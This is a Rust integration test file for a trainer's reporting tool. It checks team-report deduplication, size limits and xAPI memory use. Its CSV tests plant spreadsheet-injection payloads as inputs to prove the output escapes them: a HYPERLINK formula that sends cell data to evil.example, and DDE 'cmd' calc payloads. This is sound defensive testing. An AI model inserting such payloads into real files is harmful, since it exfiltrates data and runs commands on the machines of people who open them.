//! Reports a trainer collects, through the real binary: a team summary counts a player given
//! twice once and says so, refuses an oversized file by its size, and writes spreadsheets that
//! cannot run formulas; a long history's xAPI export streams in little memory.

#![cfg(unix)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

mod common;

fn redflag(data: &Path, args: &[&str]) -> Output {
    common::run(data, args, "")
}

fn played(data: &Path, who: &str, seed: &str) {
    let out = common::plain(
        data,
        &["--profile", who, "--seed", seed, "--count", "4"],
        "d\ns\nd\ns\n",
    );
    assert_eq!(out.status.code(), Some(0), "{}", common::text(&out));
}

/// `who`'s JSON report, written to `name` in the data folder.
fn json_report(data: &Path, who: &str, name: &str) -> PathBuf {
    let file = data.join(name);
    let out = redflag(
        data,
        &[
            "report",
            "--profile",
            who,
            "--format",
            "json",
            "--output",
            file.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", common::text(&out));
    file
}

fn team(data: &Path, files: &[&Path], format: &str) -> Output {
    let mut args = vec!["report", "--format", format, "--team"];
    args.extend(files.iter().map(|f| f.to_str().expect("utf-8")));
    redflag(data, &args)
}

#[test]
fn the_same_player_given_twice_is_counted_once_and_noted() {
    let data = tempfile::tempdir().expect("tempdir");
    let dir = data.path();
    played(dir, "kim", "1");
    let first = json_report(dir, "kim", "kim-monday.json");
    played(dir, "kim", "2");
    let later = json_report(dir, "kim", "kim-friday.json");
    played(dir, "lou", "3");
    let lou = json_report(dir, "lou", "lou.json");

    let out = team(dir, &[&first, &lou, &later], "md");
    assert_eq!(out.status.code(), Some(0), "{}", common::text(&out));
    let md = String::from_utf8_lossy(&out.stdout);
    assert!(md.contains("2 people."), "{md}");
    assert_eq!(md.matches("| kim |").count(), 1, "{md}");
    assert!(
        md.contains("| kim | 0/6 | not finished | 8 |"),
        "the later report, with both rounds: {md}"
    );
    assert!(
        md.contains("given 2 times: counted once, from") && md.contains("kim-friday.json"),
        "{md}"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("kim is given more than once") && err.contains("kim-monday.json"),
        "{err}"
    );
    // Every answer of the team counts once in the weakest themes: 8 of Kim's, 4 of Lou's.
    let themes = md.split("## Weakest themes").nth(1).expect("themes");
    let themes = themes.split("##").next().expect("section");
    let answers: u32 = themes
        .lines()
        .filter_map(|l| l.split('|').nth(3)?.trim().parse::<u32>().ok())
        .sum();
    assert_eq!(answers, 12, "{themes}");

    let out = team(dir, &[&first, &lou, &later, &later], "csv");
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 2);
    let kim = rows.iter().find(|r| &r[0] == "kim").expect("kim's row");
    assert!(kim[9].contains("given 3 times"), "{kim:?}");
}

#[test]
fn an_oversized_report_is_refused_by_its_size_before_it_is_read() {
    let data = tempfile::tempdir().expect("tempdir");
    let dir = data.path();
    played(dir, "mo", "1");
    let mo = json_report(dir, "mo", "mo.json");
    let huge = dir.join("huge.json");
    // Sparse: 100 MB on paper, nothing on disk, and nothing a parser would get through quickly.
    fs::File::create(&huge)
        .expect("create")
        .set_len(100 * 1024 * 1024)
        .expect("grow");
    let started = Instant::now();
    let out = team(dir, &[&huge, &mo], "md");
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(out.status.code(), Some(0), "{}", common::text(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("skipped")
            && err.contains("huge.json")
            && err.contains("larger than the 20 MiB"),
        "{err}"
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("1 people."));
}

/// What a spreadsheet would take as a formula, in a cell of text.
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

const HOSTILE: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

#[test]
fn no_cell_of_a_report_csv_can_start_a_formula_or_hold_a_control() {
    let data = tempfile::tempdir().expect("tempdir");
    let dir = data.path();
    played(dir, "ned", "1");
    // The name in profile.json must be the folder's (another is refused as sharing it), so the
    // hostile text comes through the round record.
    let history = fs::read_dir(dir.join("profiles/ned/history"))
        .expect("history")
        .next()
        .expect("a round")
        .expect("entry")
        .path();
    let round = fs::read_to_string(&history)
        .expect("read")
        .replace(
            "mode = \"practice\"",
            "mode = { module = \"@SUM(1+1)*cmd|' /C calc'!A0\" }",
        )
        .replacen("scenario = \"", "scenario = \"-2+3\\u001b[2J", 1);
    fs::write(&history, round).expect("write");
    let out = redflag(dir, &["report", "--profile", "ned", "--format", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::text(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        !text.chars().any(|c| c.is_control() && c != '\n'),
        "{text:?}"
    );
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 4);
    for row in &rows {
        for (i, cell) in row.iter().enumerate() {
            assert!(!formula(cell), "column {i}: {cell:?}");
        }
        assert_eq!(&row[1], "ned");
        assert_eq!(&row[3], "'@SUM(1+1)*cmd|' /C calc'!A0");
        assert!(row[10].parse::<f64>().is_ok(), "seconds stay a number");
    }
    assert!(rows[0][4].starts_with("'-2+3^[[2J"), "{:?}", &rows[0][4]);
}

#[test]
fn no_cell_of_a_team_csv_can_start_a_formula() {
    let data = tempfile::tempdir().expect("tempdir");
    let dir = data.path();
    played(dir, "ora", "1");
    let file = json_report(dir, "ora", "ora.json");
    let mut report: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(&file).expect("read")).expect("json");
    report["profile"] = serde_json::json!(HOSTILE);
    report["by_theme"] = serde_json::json!({ "+cmd|' /C calc'!A0": { "right": 0, "total": 9 } });
    report["packs"][0]["version"] = serde_json::json!("0.0.1");
    report["packs"][0]["id"] = serde_json::json!("brightside-core");
    fs::write(&file, report.to_string()).expect("write");
    let out = team(dir, &[&file], "csv");
    assert_eq!(out.status.code(), Some(0), "{}", common::text(&out));
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 1);
    for (i, cell) in rows[0].iter().enumerate() {
        assert!(!formula(cell), "column {i}: {cell:?}");
    }
    assert_eq!(&rows[0][0], format!("'{HOSTILE}"));
    assert_eq!(&rows[0][8], "'+cmd|' /C calc'!A0");
    assert_eq!(&rows[0][5], "0.500", "numbers stay numbers");
}

/// A profile with `rounds` finished rounds in its history, made by copying one real round.
fn long_history(rounds: usize) -> tempfile::TempDir {
    let data = tempfile::tempdir().expect("tempdir");
    played(data.path(), "pam", "1");
    let history = data.path().join("profiles/pam/history");
    let first = fs::read_dir(&history)
        .expect("history")
        .next()
        .expect("a round")
        .expect("entry")
        .path();
    let text = fs::read_to_string(&first).expect("read");
    fs::remove_file(&first).expect("remove");
    for i in 0..rounds {
        let started = format!("2020-01-01T00:{:02}:{:02}", i / 60 % 60, i % 60);
        let round = text.replacen("started = \"", &format!("started = \"{started}.0Z\" # "), 1);
        fs::write(history.join(format!("{i:06}.toml")), round).expect("write");
    }
    data
}

#[test]
fn a_long_history_exports_to_xapi_in_little_memory() {
    let rounds = 1_000;
    let data = long_history(rounds);
    let timed = Path::new("/usr/bin/time").exists();
    let report = data.path().join("xapi.json");
    let mut command = if timed {
        let mut c = std::process::Command::new("/usr/bin/time");
        c.args(["-f", "%M"]).arg(env!("CARGO_BIN_EXE_redflag"));
        c
    } else {
        std::process::Command::new(env!("CARGO_BIN_EXE_redflag"))
    };
    let out = command
        .args(["report", "--profile", "pam", "--format", "xapi", "--output"])
        .arg(&report)
        .env("REDFLAG_DATA_DIR", data.path())
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", common::text(&out));
    let statements: Vec<serde_json::Value> =
        serde_json::from_str(&fs::read_to_string(&report).expect("read")).expect("an array");
    assert_eq!(
        statements.len(),
        rounds * 5,
        "four answers and a closing per round"
    );
    if timed {
        let err = String::from_utf8_lossy(&out.stderr);
        let kib: u64 = err
            .lines()
            .last()
            .and_then(|l| l.trim().parse().ok())
            .unwrap_or_else(|| panic!("peak memory in {err}"));
        // Building every statement first took about 180 KiB a round (180 MiB here).
        assert!(kib < 64 * 1024, "peak {kib} KiB for {rounds} rounds");
    }
}
